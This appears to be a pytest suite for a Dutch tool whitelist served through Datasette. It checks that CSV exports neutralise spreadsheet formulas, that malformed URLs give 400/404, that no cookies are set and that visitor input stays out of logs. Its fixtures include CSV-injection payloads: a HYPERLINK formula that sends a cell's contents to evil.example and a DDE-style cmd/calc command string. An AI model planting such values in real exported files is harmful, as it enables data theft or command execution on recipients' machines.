"""Hardening II (issue 12): the whitelist under /lijst as `registry serve` runs it. No CSV cell
is a spreadsheet formula, malformed addresses are 400/404 and not 500, the database downloads
whole through granian, no answer sets a cookie, and a visitor's input never reaches the log.

Links that must not follow a forged Host are in tests/test_mount.py, the rate limits in
tests/test_limits.py; the same rules for a plain `datasette witte-lijst.db` are in
tests/test_whitelist_datasette.py.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import logging
import sqlite3
import urllib.parse

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from registry import models
from registry.csvsafe import FORMULA, CsvGuard, guard, unguard
from registry.models import Role
from registry.publish import publish

TODAY = dt.date(2026, 11, 28)
DB = "/lijst/witte-lijst"
# Cells as a vendor could type them; each must reach a spreadsheet as text.
NAME = '=HYPERLINK("https://evil.example/?d="&A1,"klik")'
DESCRIPTION = "+31 6 12345678, bel ons: -1+1"
AT_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS_NAME = "-2+3"
QUOTED_NAME = "'=al een apostrof"
TAB_DESCRIPTION = "\tingesprongen"
ASSESSOR = "=1+1 Keurmeester"
FORMULAS = {NAME, DESCRIPTION, AT_NAME, MINUS_NAME, QUOTED_NAME, TAB_DESCRIPTION, ASSESSOR}


@pytest.fixture(scope="module")
def site(tmp_path_factory, demo_client):
    """The app on the demo data plus tools and an assessment whose text starts with a formula
    character, published."""
    with demo_client(tmp_path_factory.mktemp("hardening"), Role.publisher, TODAY) as client:
        registry = client.app.state.registry
        for id_, name, description in [("formule-link", NAME, DESCRIPTION),
                                        ("formule-at", AT_NAME, TAB_DESCRIPTION),
                                        ("formule-min", MINUS_NAME, ""),
                                        ("formule-apostrof", QUOTED_NAME, "gewoon")]:
            registry.create("tools", models.ToolIn(
                id=id_, vendor_id="bordwerk", name=name, description=description,
                category=models.Category.productivity, levels=[models.Level.PO],
            ), "inkoop")
        registry.create("assessments", models.AssessmentIn(
            id="formule-link-scan", tool_id="formule-link",
            kind=models.AssessmentKind.privacy_quickscan,
            assessor=ASSESSOR, assessed_on=dt.date(2026, 2, 1),
            status=models.AssessmentStatus.final, outcome=models.Outcome.approved,
            residual_risk=models.Risk.low,
        ), "inkoop")
        publish(registry, client.app.state.whitelist_path, TODAY, "test")
        yield client


# --- 2. no formula in any public CSV ------------------------------------------------------------


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


CSVS = [
    f"{DB}/tools.csv?_size=max",
    f"{DB}/tools.csv?_stream=on&_size=3",  # many body messages, one a row
    f"{DB}/tools.csv?_stream=on&_size=max&_dl=1",  # text/csv, as an attachment
    f"{DB}/tools.csv?_search=hyperlink",
    f"{DB}/tools.csv?_trace=1&_size=max",  # otherwise an HTML page with the CSV in it
    f"{DB}/tools/formule-link.csv",
    f"{DB}/assessments.csv?_size=max",
    f"{DB}/changes.csv?_stream=1",
    f"{DB}/wijzigingen.csv?_size=max",  # a canned query
    f"{DB}/toegestaan_po.csv?_dl=on",
]


@pytest.mark.parametrize("path", CSVS)
def test_no_csv_cell_is_a_formula(site, path):
    response = site.get(path)
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"].startswith(
        "text/csv" if "_dl=" in path else "text/plain")
    found = cells(response.text)
    assert [c for c in found if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert not any(unguard(c) != c and unguard(c) not in FORMULAS for c in found)
    if "toegestaan_po" not in path:
        assert {c for c in found if unguard(c) in FORMULAS}, "no formula to guard: wrong data"


def test_every_formula_comes_out_guarded_and_the_rest_unchanged(site):
    text = site.get(f"{DB}/tools.csv?_stream=on&_size=max").text
    found = cells(text)
    assert {guard(value) for value in FORMULAS - {ASSESSOR}} <= set(found)
    assert {"'" + NAME, "''=al een apostrof", "'\tingesprongen"} <= set(found)
    assert ASSESSOR not in found and "'" + ASSESSOR in cells(site.get(f"{DB}/assessments.csv").text)
    # Apart from the guards, the CSV is Datasette's own, byte for byte.
    names = {row["id"]: row["name"] for row in csv.DictReader(io.StringIO(text))}
    assert names["sommenstad-oefenen"] == "Sommenstad Oefenen (demo)"
    assert names["formule-link"] == "'" + NAME
    assert text.count("\r\n") == len(names) + 1


ROWS = st.lists(st.lists(st.text(alphabet=st.sampled_from(list("a,\"'=+-@\t\r\né x")),
                                 max_size=6), min_size=1, max_size=4), min_size=1, max_size=3)


def written(rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


@settings(max_examples=300, deadline=None)
@given(rows=ROWS, data=st.data())
def test_the_guard_reads_any_split_as_the_whole(rows, data):
    whole = written(rows)
    expected = written([[guard(cell) for cell in row] for row in rows])
    cuts = sorted(data.draw(st.lists(st.integers(0, len(whole)), max_size=4)))
    pieces = [whole[a:b] for a, b in zip([0, *cuts], [*cuts, len(whole)])]
    csv_guard = CsvGuard()
    got = b"".join(csv_guard.feed(piece) for piece in pieces) + csv_guard.feed(b"", last=True)
    assert got == expected
    one_by_one = CsvGuard()
    got = b"".join(one_by_one.feed(whole[i:i + 1]) for i in range(len(whole)))
    assert got + one_by_one.feed(b"", last=True) == expected


@pytest.mark.parametrize(("value", "guarded"), [
    ("=1+1", "'=1+1"), ("+31", "'+31"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"), ("''+x", "'''+x"),
    ("x=1", "x=1"), ("'x", "'x"), ("", ""), ("é=", "é="),
])
def test_the_rule(value, guarded):
    assert guard(value) == guarded
    assert unguard(guard(value)) == value
    assert bool(FORMULA.match(value)) == (guarded != value)


# --- 4. malformed addresses are 400 or 404, and the database downloads whole ---------------------


@pytest.mark.parametrize(("path", "status", "says"), [
    (f"{DB}/tools.json?_sort=name&_sort_desc=id", 400, "_sort of met _sort_desc"),
    (f"{DB}/tools?_sort_desc=id&_sort=name", 400, "_sort of met _sort_desc"),
    (f"{DB}/tools.csv?_sort=name&_sort_desc=id", 400, "_sort of met _sort_desc"),
    (f"{DB}/tools.json?_sort=nope", 400, "niet sorteren"),
    (f"{DB}/tools?_sort_desc=nope", 400, "niet sorteren"),
    (f"{DB}/domains/anything", 404, "Deze rij bestaat niet"),
    (f"{DB}/domains/anything.json", 404, "Deze rij bestaat niet"),
    (f"{DB}/domains/a,b,c", 404, "Deze rij bestaat niet"),
    (f"{DB}/tools/a,b", 404, "Deze rij bestaat niet"),
    (f"{DB}/webadres/x", 404, "Deze rij bestaat niet"),  # a canned query has no rows
    (f"{DB}/nope/x.json", 404, "Deze rij bestaat niet"),
    (f"{DB}/tools.json?name__arraycontains=x", 400, "geen lijsten"),
    (f"{DB}/tools.json?nope__arraynotcontains=x", 400, "geen lijsten"),
    (f"{DB}/tools.json?_through=" + urllib.parse.quote('{"table": "domains", "column": "nope", '
                                                      '"value": "x"}'), 400, "_through"),
    (f"{DB}/tools.json?_through=" + urllib.parse.quote('{"table": "vendors", "column": "id", '
                                                      '"value": "x"}'), 400, "_through"),
    (f"{DB}/tools.json?_through=" + urllib.parse.quote('{"table": "domains", "column": "host", '
                                                      '"value": {"a": 1}}'), 400, "_through"),
])
def test_malformed_addresses_get_a_dutch_400_or_404(site, path, status, says):
    response = site.get(path)
    assert response.status_code == status, response.text[:300]
    if path.split("?")[0].endswith(".json"):
        assert says in response.json()["error"]
    else:
        assert '<html lang="nl">' in response.text and says in response.text


@pytest.mark.parametrize(("path", "ids"), [
    (f"{DB}/domains/rekenen.noorderlicht-demo.nl,noorderlicht-rekenen.json?_shape=array",
     ["noorderlicht-rekenen"]),
    (f"{DB}/tools.json?_shape=array&_col=id&level_codes__arraycontains=SO&_sort_desc=id&_size=2",
     ["taaltuin-spelling", "sommenstad-oefenen"]),
    (f"{DB}/tools.json?_shape=array&_col=id&_sort=id&_size=1&_through="
     + urllib.parse.quote('{"table": "domains", "column": "host", '
                          '"value": "rekenen.noorderlicht-demo.nl"}'), ["noorderlicht-rekenen"]),
])
def test_well_formed_addresses_still_answer(site, path, ids):
    response = site.get(path)
    assert response.status_code == 200, response.text[:300]
    assert [row.get("id", row.get("tool_id")) for row in response.json()] == ids


@pytest.mark.server
def test_the_database_downloads_whole_through_granian(tmp_path, server_factory):
    server = server_factory(tmp_path / "registry.db", workers=1)
    with server.client() as http:
        response = http.get("/lijst/witte-lijst.db")
        # Its links start with the URL `registry serve` was given (by default its own address),
        # not with a forged Host, even the first time the page is built.
        for host in ("poisoned-host.test", None):
            page = http.get("/lijst/witte-lijst/tools.json?_size=2",
                            headers={"Host": host} if host else {}).json()
            assert page["next_url"].startswith(f"{server.url}/lijst/witte-lijst/tools.json?")
    assert response.status_code == 200
    assert "transfer-encoding" not in response.headers
    assert int(response.headers["content-length"]) == len(response.content)
    assert response.content == (tmp_path / "witte-lijst.db").read_bytes()
    copy = tmp_path / "downloaded.db"
    copy.write_bytes(response.content)
    conn = sqlite3.connect(copy)
    try:
        assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert conn.execute("SELECT count(*) FROM tools").fetchone()[0] > 20
    finally:
        conn.close()


# --- 5. no cookies --------------------------------------------------------------------------------


@pytest.mark.parametrize(("method", "path"), [
    ("GET", "/lijst/-/messages"),
    ("POST", "/lijst/-/messages"),
    ("GET", "/lijst/-/logout"),
    ("GET", "/lijst/-/auth-token?token=x"),
    ("GET", "/lijst/-/actor"),
    ("GET", "/lijst/-/actor.json"),
    ("GET", "/lijst/"),
    ("GET", f"{DB}/tools"),
    ("GET", f"{DB}/tools/sommenstad-oefenen"),
    ("GET", f"{DB}/tools.csv"),
    ("GET", f"{DB}/tools.json"),
    ("GET", f"{DB}/toegestaan_po"),
    ("GET", f"{DB}/tools/bestaat-niet"),
    ("POST", f"{DB}/tools"),
])
def test_no_answer_sets_a_cookie(site, method, path):
    for cookies in ({}, {"Cookie": "ds_csrftoken=oud; ds_messages=oud; ds_actor=oud"}):
        response = site.request(method, path, headers=cookies, follow_redirects=False)
        assert response.status_code < 500, response.text[:300]
        assert "set-cookie" not in response.headers, (path, response.headers["set-cookie"])


@pytest.mark.parametrize("path", ["/lijst/-/messages", "/lijst/-/logout", "/lijst/-/auth-token"])
def test_the_cookie_routes_are_gone(site, path):
    assert site.get(path).status_code == 404


# --- 6. a visitor's input stays out of the log ---------------------------------------------------

MARKER = "Vraag7q3Zk"
MISTAKES = [
    f"{DB}/tools.json?name__arraycontains={MARKER}",
    f"{DB}/tools.csv?description__arraynotcontains={MARKER}",
    f"{DB}/tools.csv?_stream=on&levels__arraycontains={MARKER}",
    f"{DB}/tools.json?{MARKER}__arraycontains=x",
    f"{DB}/domains/{MARKER}",
    f"{DB}/{MARKER}/x",
    f"{DB}/tools.json?_timelimit={MARKER}",
    f"{DB}/tools.json?_facet={MARKER}",
    f"{DB}/tools.json?_facet=%7B%22{MARKER}%22%3A1%7D",
    f"{DB}/tools.json?_sort=name&_sort_desc={MARKER}",
    f"{DB}/tools.json?_sort={MARKER}",
    f"{DB}/tools.json?_through=" + urllib.parse.quote(
        f'{{"table": "domains", "column": "{MARKER}", "value": "x"}}'),
    f"{DB}/tools.json?_through={MARKER}",
    f"{DB}/tools.json?id__in=[%22{MARKER}",
    f"{DB}/tools.json?id__gt=99999999999999999999&x={MARKER}",
    f"{DB}/tools.json?_size={MARKER}",
    f"{DB}/tools.json?_col={MARKER}",
    f"{DB}/tools.json?_search_{MARKER}=x",
]


@pytest.mark.parametrize("path", MISTAKES)
def test_an_askers_mistake_is_400_or_404_and_not_logged(site, path, capsys, caplog):
    caplog.set_level(logging.WARNING, logger="httpx")  # the test client logs what it asks
    caplog.set_level(logging.DEBUG)
    response = site.get(path)
    assert response.status_code in (400, 404), response.text[:300]
    assert MARKER not in caplog.text
    out, err = capsys.readouterr()
    assert MARKER not in out and MARKER not in err
